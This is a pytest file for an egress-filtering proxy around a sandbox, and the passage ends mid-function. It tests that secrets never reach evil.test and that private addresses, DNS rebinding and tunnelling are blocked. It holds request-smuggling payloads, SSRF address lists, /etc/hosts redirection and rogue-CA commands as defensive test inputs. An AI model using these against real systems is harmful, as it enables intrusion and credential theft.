# SPDX-License-Identifier: Apache-2.0
"""Cases 28 to 63: where a connection goes, or does not."""

import base64
import json
import re
import ssl
import subprocess

import pytest
from egress_bench import (EVIL, GOOD, GOOD6, OTHER, PRIVATE, S1, SECRETS, Box, ask_dns,
                          status_of)
from harness import resolver as dns
from harness.lab import Network
from harness.ca import LONG_AGO, YESTERYEAR, Authority, openssl
from harness.origin import Origin
from harness.rpc import Sandbox
from websockets.exceptions import InvalidStatus

GET = b"GET / HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n"
# A refusal is known within this, with room for a busy machine.
AT_ONCE_MS = 500


@pytest.fixture(scope="module")
def p1(box) -> str:
    return box.placeholder("S1")


def issuer(result: dict) -> str:
    der = base64.b64decode(result["cert"])
    return openssl_der(der, "-issuer")


def openssl_der(der: bytes, *what: str) -> str:
    return subprocess.run(["openssl", "x509", "-inform", "DER", "-noout", *what], input=der,
                          capture_output=True, check=True).stdout.decode()


def nothing_arrived(lab) -> None:
    assert not lab.good.requests and not lab.evil.connections
    assert not lab.private.connections and not lab.node.connections


def test_case_28_unbound_host_passes_through(lab, box, p1):
    result = box.request(GET.replace(b"api", b"files").replace(
        b"\r\n\r\n", b"\r\nx-key: %s\r\n\r\n" % p1.encode()), host="files.test", insecure=True)
    assert status_of(result) == 200
    assert "Casemate test root" in issuer(result), "the origin's own certificate"
    assert lab.good.last().header("x-key") == p1
    lab.instance.audit.wait(ev="passthrough", sandbox=box.id, name="files.test")


def test_case_28_bound_host_is_intercepted(lab, box):
    result = box.request(GET)
    assert "Casemate egress CA" in issuer(result)
    lab.instance.audit.wait(ev="intercept", sandbox=box.id, name="api.test")


def test_case_29_plain_http_never_carries_a_value(lab, box, p1):
    result = box.request(GET.replace(b"\r\n\r\n", b"\r\nx-key: %s\r\n\r\n" % p1.encode()), port=80,
                         tls=False)
    assert status_of(result) == 403
    nothing_arrived(lab)
    assert box.ok("http://api.test/plain") == "ok"


def test_case_30_unlisted_host(lab, box):
    plain, tls, other = box.probe(
        {"host": "evil.test", "port": 80, "tls": False,
         "send": b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n", "until": "}"},
        {"host": "evil.test", "port": 443, "sni": "evil.test", "insecure": True},
        {"host": "evil.test", "port": 5432, "tls": False})
    assert status_of(plain) == 403
    told = json.loads(plain["data"].split(b"\r\n\r\n", 1)[1])
    assert "evil.test" in json.dumps(told)
    assert "ACCESS_DENIED" in tls["error"], tls
    assert other["error"] in ("ConnectionResetError", "ConnectionRefusedError"), other
    for result in (plain, tls, other):
        assert result["ms"] < AT_ONCE_MS, result
    nothing_arrived(lab)
    lab.instance.audit.wait(ev="conn_deny", sandbox=box.id, name="evil.test")


@pytest.mark.parametrize("sni", [None, "evil.test", "random-name.example"])
def test_case_31_address_of_an_unlisted_host(lab, box, sni):
    result, = box.probe({"host": EVIL, "port": 443, "sni": sni, "insecure": True})
    assert "error" in result and not result["data"]
    nothing_arrived(lab)


def test_case_31_bare_addresses_are_refused_at_once(lab, box):
    for result in box.probe(*({"host": EVIL, "port": port, "tls": False} for port in (22, 80, 5432))):
        assert "error" in result or status_of(result) == 403, result
        assert result["ms"] < AT_ONCE_MS
    nothing_arrived(lab)


def test_case_32_the_address_is_not_believed(lab, box, p1):
    head = GET.replace(b"\r\n\r\n", b"\r\nx-key: %s\r\n\r\n" % p1.encode())
    box.request(head, host=EVIL, sni="api.test", insecure=True)
    assert not lab.evil.connections


def test_case_32_edited_hosts_file(lab, box, p1):
    box.sandbox.check_sh(f"echo '{EVIL} api.test' | sudo tee -a /etc/hosts")
    try:
        box.curl("https://api.test/hosts", "-H", f"x-key: {p1}")
    finally:
        box.sandbox.check_sh("sudo cp /etc/hosts /tmp/h && sudo sed -i '$d' /tmp/h && "
                             "sudo cp /tmp/h /etc/hosts")
    assert not lab.evil.connections


HOST_MISMATCH = [
    b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: two.test\r\n\r\n",
    b"GET https://evil.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n",
    b"GET http://evil.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n",
    b"GET https://api.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: api.test\r\nHost: evil.test\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: api.test\r\nHost: api.test\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost:\r\n\r\n",
    b"GET / HTTP/1.1\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: api.test:8443\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: api.test, evil.test\r\n\r\n",
]


@pytest.mark.parametrize("head", HOST_MISMATCH, ids=lambda h: repr(h[:60]))
def test_case_33_host_must_be_the_one_of_the_connection(lab, box, head):
    result = box.request(head, timeout=4)
    assert status_of(result) in (400, 421), result
    nothing_arrived(lab)


@pytest.mark.parametrize("host", [b"API.test", b"api.test.", b"api.test:443", b"Api.Test.:443"])
def test_case_33_harmless_spellings(lab, box, host):
    result = box.request(GET.replace(b"api.test", host))
    assert status_of(result) == 200, result


@pytest.mark.parametrize("host", [b"user@api.test", b"api.test\t", b"\tapi.test x", b"api.test%00",
                                  b"api.test\0", b"api.test\\", b"api.test#", b"api.test/",
                                  b"@api.test", b"api\xc3\xa9.test", b"api.test:x", b"api.test:443:1"])
def test_case_34_hosts_that_cannot_be(lab, box, host):
    result = box.request(GET.replace(b"api.test", host), timeout=4)
    if host == b"api.test\t":  # white space around a value is no part of it
        assert status_of(result) in (200, 400)
        return
    assert status_of(result) in (400, 421), result
    nothing_arrived(lab)


def test_case_35_nul_in_names(lab, box):
    for result in box.probe(
            {"host": EVIL, "port": 443, "hello": "evil.test\0.pkg.test", "timeout": 4},
            {"host": "a.pkg.test", "port": 443, "hello": "evil.test\0.pkg.test", "timeout": 4},
            {"host": "a.pkg.test", "port": 443, "hello": "\0", "timeout": 4}):
        # A refusal is an alert record (21) or a reset; a ServerHello (22) would be acceptance.
        assert not result["data"] or result["data"][0] == 21, result
    for answer in ask_dns(box, dns.query([b"evil.test\0", b"pkg", b"test"], dns.A),
                          dns.query([b"evil\0", b"pkg", b"test"], dns.A)):
        assert answer.rcode in (dns.REFUSED, dns.FORMERR), answer
    nothing_arrived(lab)
    assert not lab.resolver.questions


@pytest.mark.parametrize("name, allowed", [
    ("a.pkg.test", True), ("a.b.pkg.test", True), ("A.PKG.test", True),
    ("xn--bcher-kva.pkg.test", True),
    ("pkg.test", False), ("evilpkg.test", False), ("pkg.test.evil.test", False),
])
def test_case_36_wildcard(lab, box, name, allowed):
    result, = box.probe({"host": name, "port": 443, "sni": name, "insecure": True,
                         "send": GET.replace(b"api.test", name.lower().encode())})
    if allowed:
        assert status_of(result) == 200, result
    else:
        assert "error" in result, result
        nothing_arrived(lab)


def test_case_36_names_that_cannot_be(lab, box):
    long_label = "a" * 64
    answers = ask_dns(box, dns.query("*.pkg.test", dns.A),
                      dns.query([b"a b", b"pkg", b"test"], dns.A),
                      dns.query(["a".encode() * 63] * 4 + [b"pkg", b"test"], dns.A))
    assert all(a.rcode in (dns.REFUSED, dns.FORMERR) for a in answers), answers
    with pytest.raises(InvalidStatus):
        Sandbox(lab.instance, allow_net=[f"{long_label}.test"])
    for rule in ("api.*.x", "*x", "ex*", "x.*", "*", "*.", "bücher.test", "a..b", "http://x.test"):
        with pytest.raises(InvalidStatus) as refused:
            Sandbox(lab.instance, allow_net=[rule])
        assert refused.value.response.status_code == 400


def test_case_37_ports(lab):
    box = Box(lab, allow_net=["files.test:8443", "a.pkg.test"])
    try:
        head = b"GET / HTTP/1.1\r\nHost: files.test\r\nConnection: close\r\n\r\n"
        right, wrong, plain = box.probe(
            {"host": "files.test", "port": 8443, "sni": "files.test", "insecure": True, "send": head},
            {"host": "files.test", "port": 443, "sni": "files.test", "insecure": True},
            {"host": "files.test", "port": 80, "tls": False, "send": head})
        assert status_of(right) == 200
        assert "error" in wrong
        assert status_of(plain) == 403
        for port in (443, 8443):
            anywhere, = box.probe({"host": "a.pkg.test", "port": port, "sni": "a.pkg.test",
                                   "insecure": True, "send": GET.replace(b"api", b"a.pkg")})
            assert status_of(anywhere) == 200, port
    finally:
        box.close()


def test_case_38_address_rules(lab):
    box = Box(lab, allow_net=[GOOD, f"[{GOOD6}]", "198.51.100.0/24"])
    try:
        for host in (GOOD, GOOD6, OTHER, f"::ffff:{GOOD}"):
            result, = box.probe({"host": host, "port": 443, "sni": None, "insecure": True,
                                 "send": GET})
            assert status_of(result) == 200, (host, result)
        result, = box.probe({"host": EVIL, "port": 443, "sni": None, "insecure": True})
        assert "error" in result
        assert not lab.evil.connections
    finally:
        box.close()
    for rule in ("0x7f.1", "2130706433", "127.1", "0177.0.0.1", "1.2.3.4.5", "1.2.3.4/33",
                 "203.0.113.1/24/3", "[::1", "::1]"):
        with pytest.raises(InvalidStatus):
            Sandbox(lab.instance, allow_net=[rule])


UNSAFE = ["127.0.0.1", Network.NODE, Network.NODE_SECOND, Network.NODE6, "10.1.2.3", "172.16.9.9", "192.168.77.1", "169.254.169.254", "100.64.3.3",
          "0.0.0.0", "::1", "::ffff:127.0.0.1", "64:ff9b::7f00:1", "2002:7f00:1::", "fe80::1",
          "fc00::1", "fd00:ec2::254", "2001:0:7f00:1::", "::127.0.0.1", "255.255.255.255",
          "224.0.0.1", "198.18.0.1", "240.0.0.1"]


@pytest.mark.parametrize("address", UNSAFE)
def test_case_39_allowed_name_at_an_address_that_is_not_public(lab, box, address):
    lab.resolver.zone["inner.pkg.test"] = (address,)
    for port in (443, 80):
        result = box.request(GET.replace(b"api.test", b"inner.pkg.test"), host="inner.pkg.test",
                             port=port, tls=port == 443, insecure=True)
        assert status_of(result) != 200, result
        assert result["ms"] < 3000
    nothing_arrived(lab)


@pytest.mark.parametrize("address", [*PRIVATE, "0.0.0.0", Network.NODE, Network.NODE_SECOND])
def test_case_39_private_addresses_without_a_list(lab, address):
    """allow_net absent: everything public, and still nothing that is not."""
    box = Box(lab)
    try:
        for port in (443, 80):
            result, = box.probe({"host": address, "port": port, "sni": None, "tls": port == 443,
                                 "insecure": True, "send": GET})
            assert status_of(result) != 200, result
        assert box.ok("-k", "https://files.test/public") == "ok"
    finally:
        box.close()
    assert not lab.private.connections and not lab.node.connections


def test_case_39_listing_a_private_address_does_not_open_it(lab):
    try:
        box = Box(lab, allow_net=["127.0.0.1", "169.254.169.254", "10.0.0.0/8"])
    except InvalidStatus as refused:
        assert refused.response.status_code == 400
        return
    try:
        for address in ("169.254.169.254", "10.1.2.3"):
            result, = box.probe({"host": address, "port": 80, "tls": False, "send": GET})
            assert status_of(result) != 200
    finally:
        box.close()
    assert not lab.private.connections and not lab.node.connections


def test_case_40_rebinding(lab, box):
    lab.resolver.zone["rebind.test"] = [(GOOD,), ("127.0.0.1",)]
    head = GET.replace(b"api.test", b"rebind.test")
    for _ in range(4):
        box.request(head, host="rebind.test", port=80, tls=False)
    assert not lab.private.connections and not lab.node.connections


def test_case_40_mixed_addresses(lab, box):
    lab.resolver.zone["rebind.test"] = ("127.0.0.1", GOOD, "169.254.169.254")
    for _ in range(4):
        result = box.request(GET.replace(b"api.test", b"rebind.test"), host="rebind.test", port=80,
                             tls=False)
        assert status_of(result) == 200, "the safe one is dialled"
    assert not lab.private.connections and not lab.node.connections


def test_case_41_cname(lab, box):
    lab.resolver.zone["alias.pkg.test"] = ("internal.corp.test",)
    lab.resolver.zone["internal.corp.test"] = ("10.1.2.3",)
    result = box.request(GET.replace(b"api.test", b"alias.pkg.test"), host="alias.pkg.test", port=80,
                         tls=False)
    assert status_of(result) != 200
    assert b"internal.corp" not in result["data"]
    lab.resolver.zone["alias.pkg.test"] = ("unlisted.cdn.test",)
    lab.resolver.zone["unlisted.cdn.test"] = (GOOD,)
    result = box.request(GET.replace(b"api.test", b"alias.pkg.test"), host="alias.pkg.test", port=80,
                         tls=False)
    assert status_of(result) == 200, "judged by its address"
    assert not lab.private.connections and not lab.node.connections


def test_case_42_no_query_of_the_sandbox_leaves(lab, box):
    kinds = (dns.TXT, dns.NULL, dns.ANY, dns.SRV, dns.PTR, dns.NS, dns.CNAME)
    asks = [dns.query("a.pkg.test", kind) for kind in kinds]
    asks += [dns.query("a.pkg.test", dns.TXT, edns=4096, padding=800),
             dns.query("1.0.0.127.in-addr.arpa", dns.PTR)]
    for answer in ask_dns(box, *asks):
        assert not answer.records, answer
    many = [dns.query(f"{n:060x}.pkg.test", dns.A) for n in range(500)]
    for answer in ask_dns(box, *many):
        assert answer.rcode in (dns.NOERROR, dns.REFUSED, dns.SERVFAIL)
    assert lab.resolver.questions == []


def test_case_42_garbage_for_the_resolver(lab, box):
    out = box.sandbox.python(
        "import socket, os\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "for size in (0, 1, 11, 12, 13, 100, 512, 1500, 9000):\n"
        "    for _ in range(20): s.sendto(os.urandom(size), ('203.0.113.53', 53))\n"
        "head = bytes.fromhex('000701000001000000000000')\n"
        "for tail in (b'\\xc0\\x0c\\0\\1\\0\\1', b'\\x3f', b'\\xff' * 300, b'\\1a' * 200):\n"
        "    s.sendto(head + tail, ('203.0.113.53', 53))\n")
    assert out.code == 0, out.stderr
    answer, = ask_dns(box, dns.query("a.pkg.test", dns.A))
    assert answer.addresses()
    assert box.ok("-k", "https://files.test/") == "ok"


def test_case_42_answers_are_stable_and_synthetic(lab, box):
    first, again, six, denied = ask_dns(
        box, dns.query("a.pkg.test", dns.A), dns.query("A.PKG.test", dns.A),
        dns.query("a.pkg.test", dns.AAAA), dns.query("evil.test", dns.A))
    assert first.addresses() == again.addresses()
    assert re.match(r"198\.1[89]\.", first.addresses()[0])
    assert six.addresses()
    assert denied.addresses() and denied.addresses() != first.addresses()


def test_case_43_https_records_are_empty(lab, box):
    for answer in ask_dns(box, dns.query("api.test", dns.HTTPS), dns.query("api.test", 64)):
        assert (answer.rcode, answer.records) == (dns.NOERROR, [])


def test_case_44_udp(lab, box):
    out = box.sandbox.python(
        "import socket, time, json\n"
        "def tell(host, port):\n"
        "    family = socket.AF_INET6 if ':' in host else socket.AF_INET\n"
        "    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(3)\n"
        "    begin = time.monotonic()\n"
        "    try:\n"
        "        s.connect((host, port)); s.send(b'x'); s.recv(100); why = 'answered'\n"
        "    except OSError as e: why = type(e).__name__\n"
        "    return [why, (time.monotonic() - begin) * 1000]\n"
        "api = socket.gethostbyname('api.test')\n"
        f"print(json.dumps([tell(h, p) for h in (api, '{GOOD}', '{GOOD6}') for p in (443, 123, 4433)]))")
    assert out.code == 0, out.stderr
    for why, ms in json.loads(out.text):
        assert why == "ConnectionRefusedError" and ms < AT_ONCE_MS, (why, ms)
    for server in ("8.8.8.8", "1.1.1.1"):
        answer, = ask_dns(box, dns.query("api.test", dns.A), server=server)
        assert answer.addresses()[0].startswith("198.1")
    assert not lab.resolver.questions


def test_case_44_other_ways_out(lab, box):
    tcp53, dot, doh = box.probe(
        {"host": GOOD, "port": 53, "tls": False, "send": b"\0\x1d" + dns.query("x.test", dns.A)},
        {"host": GOOD, "port": 853, "tls": False},
        {"host": "dns.example", "port": 443, "sni": "dns.example", "insecure": True})
    for result in (tcp53, dot, doh):
        assert not result["data"] and "error" in result or result["data"] == b"", result
    out = box.sandbox.python(
        "import socket\n"
        "def tell(*args):\n"
        "    try: s = socket.socket(*args)\n"
        "    except OSError: return 'refused'\n"
        "    try:\n"
        "        s.settimeout(2)\n"
        f"        s.sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('{GOOD}', 0)); s.recv(99); return 'ANSWERED'\n"
        "    except OSError as e: return 'refused'\n"
        "print([tell(socket.AF_INET, socket.SOCK_RAW, 1), tell(socket.AF_INET, socket.SOCK_RAW, 255),\n"
        "       tell(socket.AF_INET6, socket.SOCK_RAW, 58), tell(socket.AF_INET, socket.SOCK_STREAM, 132),\n"
        "       tell(socket.AF_INET, socket.SOCK_SEQPACKET, 132), tell(socket.AF_PACKET, socket.SOCK_RAW, 768),\n"
        "       tell(socket.AF_VSOCK, socket.SOCK_STREAM)])", sudo=True)
    assert out.text.strip() == str(["refused"] * 7), out
    assert not lab.good.requests


def test_case_49_server_first_protocols(lab, box):
    right, = box.probe({"host": "tcp.test", "port": 5432, "tls": False, "send": b"hello\n"})
    assert right["data"] == b"READY tcp.test\nHELLO\n", right
    wrong, = box.probe({"host": "tcp.test", "port": 5433, "tls": False})
    assert "error" in wrong and wrong["ms"] < AT_ONCE_MS
    assert len(lab.greeter.connections) == 1


def test_case_50_old_http(lab, box, p1):
    result = box.request(b"GET /\r\n", timeout=4)
    assert status_of(result) in (400, 505, None) and not lab.good.requests
    result = box.request(b"GET /ten HTTP/1.0\r\nHost: api.test\r\nx-key: %s\r\n\r\n" % p1.encode())
    assert status_of(result) == 200
    assert lab.good.last().header("x-key") == S1


def test_case_50_pipelined(lab, box, p1):
    parts = [b"GET /%d HTTP/1.1\r\nHost: api.test\r\nx-key: %s\r\n\r\n"
             % (n, p1.encode() if n == 2 else b"none") for n in (1, 2)]
    last = b"GET /3 HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n"
    result = box.request(b"".join(parts) + last)
    assert result["data"].count(b"HTTP/1.1 200") == 3, result
    assert [(r.target, r.header("x-key")) for r in lab.good.requests] == \
        [("/1", "none"), ("/2", S1), ("/3", None)]


SMUGGLING = {
    "cl-te": b"POST / HTTP/1.1\r\nHost: api.test\r\nContent-Length: 4\r\n"
             b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "te-te": b"POST / HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n"
             b"Transfer-Encoding: identity\r\n\r\n0\r\n\r\n",
    "te-list": b"POST / HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked, chunked\r\n\r\n"
               b"0\r\n\r\n",
    "te-odd": b"POST / HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    "te-identity": b"POST / HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: identity\r\n\r\n",
    "cl-twice": b"POST / HTTP/1.1\r\nHost: api.test\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab",
    "cl-list": b"POST / HTTP/1.1\r\nHost: api.test\r\nContent-Length: 1, 1\r\n\r\na",
    "cl-negative": b"POST / HTTP/1.1\r\nHost: api.test\r\nContent-Length: -1\r\n\r\n",
    "cl-plus": b"POST / HTTP/1.1\r\nHost: api.test\r\nContent-Length: +5\r\n\r\nabcde",
    "cl-hex": b"POST / HTTP/1.1\r\nHost: api.test\r\nContent-Length: 0x5\r\n\r\nabcde",
    "cl-huge": b"POST / HTTP/1.1\r\nHost: api.test\r\nContent-Length: 99999999999999999999\r\n\r\n",
    "bare-lf": b"GET / HTTP/1.1\nHost: api.test\n\n",
    "bare-lf-mixed": b"GET / HTTP/1.1\r\nHost: api.test\nX: y\r\n\r\n",
    "bare-cr": b"GET / HTTP/1.1\r\nHost: api.test\r\nX: a\rb\r\n\r\n",
    "obs-fold": b"GET / HTTP/1.1\r\nHost: api.test\r\nX: a\r\n b\r\n\r\n",
    "space-before-colon": b"GET / HTTP/1.1\r\nHost : api.test\r\n\r\n",
    "nul": b"GET / HTTP/1.1\r\nHost: api.test\r\nX: a\0b\r\n\r\n",
    "tab-in-name": b"GET / HTTP/1.1\r\nHost: api.test\r\nX\tY: a\r\n\r\n",
    "empty-name": b"GET / HTTP/1.1\r\nHost: api.test\r\n: a\r\n\r\n",
    "space-in-target": b"GET /a b HTTP/1.1\r\nHost: api.test\r\n\r\n",
    "chunk-overflow": b"POST / HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n"
                      b"ffffffffffffffff1\r\n",
    "chunk-0x": b"POST / HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n"
                b"0x1\r\na\r\n0\r\n\r\n",
    "chunk-ext-flood": b"POST / HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n"
                       b"1;" + b"x" * 100000 + b"\r\na\r\n0\r\n\r\n",
    "chunk-bare-lf": b"POST / HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n"
                     b"1\na\n0\n\n",
    "chunk-too-long": b"POST / HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n"
                      b"1\r\nabc\r\n0\r\n\r\n",
    "method": b"G@T / HTTP/1.1\r\nHost: api.test\r\n\r\n",
    "version": b"GET / HTTP/1.9\r\nHost: api.test\r\n\r\n",
}


@pytest.mark.parametrize("name", SMUGGLING)
def test_case_51_smuggling(lab, box, name):
    hidden = b"GET /smuggled HTTP/1.1\r\nHost: api.test\r\n\r\n"
    result = box.request(SMUGGLING[name] + hidden, timeout=4)
    assert status_of(result) in (400, 413, 431, 501, 505, None), result["data"][:200]
    assert not [r for r in lab.good.requests if r.target == "/smuggled"], "smuggled"
    assert not lab.good.requests, "nothing upstream"


def test_case_51_get_with_a_body_is_one_request(lab, box):
    box.request(b"GET / HTTP/1.1\r\nHost: api.test\r\nContent-Length: 5\r\nConnection: close\r\n\r\n"
                b"hello")
    assert [(r.method, r.body) for r in lab.good.requests] == [("GET", b"hello")]


def test_case_51_missing_last_chunk(lab, box):
    result = box.request(b"POST / HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n"
                         b"5\r\nhello\r\n", timeout=2)
    assert status_of(result) != 200
    assert not lab.good.requests, "no whole request upstream"


@pytest.mark.parametrize("body", ["/chunked?n=50", "/big?n=3000000", "/until-close", "/sse?n=3&ms=20",
                                  "/status/204", "/status/304", "/slow?ms=300"])
def test_responses_of_every_framing(lab, box, body):
    out = box.curl("https://api.test" + body)
    assert out.code == 0, out.stderr
    want = {"/chunked?n=50": b"".join(b"%d\n" % n for n in range(50)), "/until-close": b"until the end",
            "/big?n=3000000": b"x" * 3_000_000, "/sse?n=3&ms=20": b"data: 0\n\ndata: 1\n\ndata: 2\n\n",
            "/slow?ms=300": b"ok"}.get(body, b"")
    assert out.stdout == want


def test_uploads_arrive_whole(lab, box):
    box.sandbox.check_sh("head -c 5000000 /dev/urandom > up.bin")
    want = box.sandbox.check_sh("sha256sum up.bin").split()[0]
    assert box.ok("https://api.test/sha256", "--data-binary", "@up.bin") == want
    assert box.ok("https://api.test/sha256", "-H", "Transfer-Encoding: chunked", "--data-binary",
                  "@up.bin") == want
    assert box.ok("https://api.test/sha256", "-H", "Expect: 100-continue", "--data-binary",
                  "@up.bin") == want


def test_head_and_early_answers(lab, box):
    assert "Content-Length: 1000" in box.ok("-I", "https://api.test/big?n=1000")
    box.sandbox.check_sh("head -c 3000000 /dev/zero > up.bin")
    out = box.curl("-w", "%{http_code}", "-o", "/dev/null", "https://api.test/early",
                   "--data-binary", "@up.bin")
    assert out.text == "401", out


def test_case_55_redirect(lab, box):
    out = box.curl("-w", "%{http_code} %{redirect_url}", "https://api.test/redirect?to=https://evil.test/")
    assert out.text == "302 https://evil.test/"
    out = box.curl("-L", "https://api.test/redirect?to=https://evil.test/")
    assert out.code != 0
    assert not lab.evil.connections


class Bad:
    """Upstreams whose TLS nobody should accept, each on an address of its own name."""

    def __init__(self, lab, tmp):
        rogue = Authority(tmp / "rogue", "Somebody else's root")
        issue = lab.authority.issue
        self.kinds = {
            "expired": (issue("expired.pkg.test", start=LONG_AGO, end=YESTERYEAR), {}),
            "unknown-root": (rogue.issue("unknown-root.pkg.test"), {}),
            "wrong-name": (issue("other.test"), {}),
            "two-levels": (issue("*.test"), {}),
            "address-only": (issue(f"IP:{GOOD}"), {}),
            "sha1": (issue("sha1.pkg.test", digest="sha1"), {"weak": True}),
            "rsa1024": (issue("rsa1024.pkg.test", key="rsa1024"), {"weak": True}),
            "tls11": (issue("tls11.pkg.test"), {"tls_max": ssl.TLSVersion.TLSv1_1}),
            "client-cert": (issue("client-cert.pkg.test"), {"client_ca": lab.authority.cert}),
            "not-tls": (None, {}),
        }


@pytest.mark.parametrize("kind", ["expired", "unknown-root", "wrong-name", "two-levels",
                                  "address-only", "sha1", "rsa1024", "tls11", "client-cert",
                                  "not-tls"])
def test_case_56_bad_upstream_certificates(lab, tmp_path, kind):
    cert, options = Bad(lab, tmp_path).kinds[kind]
    name = f"{kind}.pkg.test"
    address = "203.0.113.200"
    with lab.net.internet():
        subprocess.run(["ip", "address", "replace", f"{address}/32", "dev", "lo"], check=True)
        origin = Origin(cert, listen=((address, 443),), **options)
    lab.resolver.zone[name] = (address,)
    box = Box(lab, allow_net=[name], secrets={"K": {"hosts": [name], "value": S1}})
    try:
        result = box.request(b"GET / HTTP/1.1\r\nHost: %s\r\nx-key: %s\r\nConnection: close\r\n\r\n"
                             % (name.encode(), box.placeholder("K").encode()), host=name)
        assert status_of(result) == 502 or "error" in result, result
        if status_of(result) == 502:
            assert len(result["data"].split(b"\r\n\r\n", 1)[1]) > 10, "it says why"
        # TLS 1.3 tells the client of a missing certificate only after the handshake.
        assert not origin.requests and S1.encode() not in origin.received
        if kind != "not-tls":
            assert origin.received == b"", "no request byte may be sent"
        if kind == "client-cert":
            lab.instance.audit.wait(ev="request", sandbox=box.id, status="502")
        else:
            lab.instance.audit.wait(ev="upstream_tls_error", sandbox=box.id)
    finally:
        box.close()
        origin.close()


def test_case_84_a_client_certificate_of_the_sandbox_to_an_unbound_host(lab, tmp_path):
    """TLS that is passed through is the two ends' own: the host sees the certificate of the program
    inside. Without one the host refuses, as it would without a proxy."""
    name, address = "mutual.pkg.test", "203.0.113.201"
    cert, key = tmp_path / "client.pem", tmp_path / "client.key"
    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256",
                    "-nodes", "-subj", "/CN=client", "-keyout", key, "-out", cert], check=True,
                   capture_output=True)
    with lab.net.internet():
        subprocess.run(["ip", "address", "replace", f"{address}/32", "dev", "lo"], check=True)
        origin = Origin(lab.authority.issue(name), listen=((address, 443),),
                        client_ca=cert)
    lab.resolver.zone[name] = (address,)
    box = Box(lab, allow_net=[name, "api.test"], secrets={"K": {"hosts": ["api.test"], "value": S1}})
    try:
        box.sandbox.write("/home/app/client.pem", cert.read_bytes() + key.read_bytes())
        assert box.curl("-f", f"https://{name}/without").code != 0
        box.ok(f"https://{name}/with", "--cert", "/home/app/client.pem", "-H",
               f"x: {box.placeholder('K')}")
        assert [r.target for r in origin.requests] == ["/with"]
        assert S1.encode() not in origin.received
        lab.instance.audit.wait(ev="passthrough", sandbox=box.id, name=name)
    finally:
        box.close()
        origin.close()


def test_case_57_settings_of_the_sandbox_do_not_reach_the_proxy(lab, box, p1):
    rogue_name = "unknown-root.pkg.test"
    box.sandbox.check_sh(
        "openssl req -x509 -newkey rsa:2048 -nodes -keyout k.pem -out rogue.pem -days 1 -subj /CN=r"
        " 2>/dev/null || true; sudo sh -c 'cat rogue.pem >> /etc/ssl/certs/ca-certificates.crt; "
        "echo nameserver 203.0.113.99 > /etc/resolv.conf'")
    out = box.sh(f"SSL_CERT_FILE=rogue.pem SSL_CERT_DIR=/tmp curl -sS -k -m 10 https://api.test/set "
                 f"-H 'x-key: {p1}'")
    assert out.text == "ok", out.stderr
    assert lab.good.last().header("x-key") == S1
    lab.resolver.zone[rogue_name] = (EVIL,)
    assert not lab.evil.connections


def test_case_59_only_the_certificate_is_inside(lab, box):
    text = box.sandbox.check_sh("cat /etc/casemate/ca.pem")
    assert "BEGIN CERTIFICATE" in text and "PRIVATE KEY" not in text
    found = box.sh("sudo grep -rlE 'BEGIN (EC |RSA )?PRIVATE KEY' /etc /home /run /tmp /var 2>/dev/null"
                   " | grep -v -e k.pem")
    assert found.text == ""
    der = ssl.PEM_cert_to_DER_cert(text)
    details = openssl_der(der, "-text")
    assert "CA:TRUE, pathlen:0" in details
    constraints = details.split("Name Constraints: critical")[1]
    assert "DNS:api.test" in constraints and "DNS:two.test" in constraints
    assert "DNS:files.test" not in constraints


def test_case_59_authorities_differ(lab, box):
    other = Box(lab, allow_net=["api.test"], secrets={"K": SECRETS["S1"] | {"hosts": ["api.test"]}})
    try:
        theirs = other.sandbox.check_sh("cat /etc/casemate/ca.pem")
        mine = box.sandbox.check_sh("cat /etc/casemate/ca.pem")
        assert theirs != mine
        box.sandbox.write("theirs.pem", theirs.encode())
        out = box.curl("--cacert", "theirs.pem", "--capath", "/nowhere", "https://api.test/")
        assert out.code == 60, "the other's authority does not vouch for this connection"
    finally:
        other.close()


def test_case_59_constraints_hold(lab, tmp_path):
    """A root so constrained cannot vouch for another name, whoever holds the key: shown with a twin of
    the sandbox's authority, whose key the test has."""
    config = tmp_path / "c.cnf"
    config.write_text("[req]\ndistinguished_name=d\nprompt=no\n[d]\nCN=twin\n[ca]\n"
                      "basicConstraints=critical,CA:true,pathlen:0\nkeyUsage=critical,keyCertSign\n"
                      "nameConstraints=critical,permitted;DNS:api.test\n[leaf]\n"
                      "subjectAltName=DNS:evil.test\n")
    openssl("req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-keyout",
            str(tmp_path / "k"), "-out", str(tmp_path / "ca"), "-config", str(config), "-extensions", "ca")
    openssl("req", "-new", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-keyout",
            str(tmp_path / "lk"), "-out", str(tmp_path / "csr"), "-config", str(config))
    openssl("x509", "-req", "-in", str(tmp_path / "csr"), "-CA", str(tmp_path / "ca"), "-CAkey",
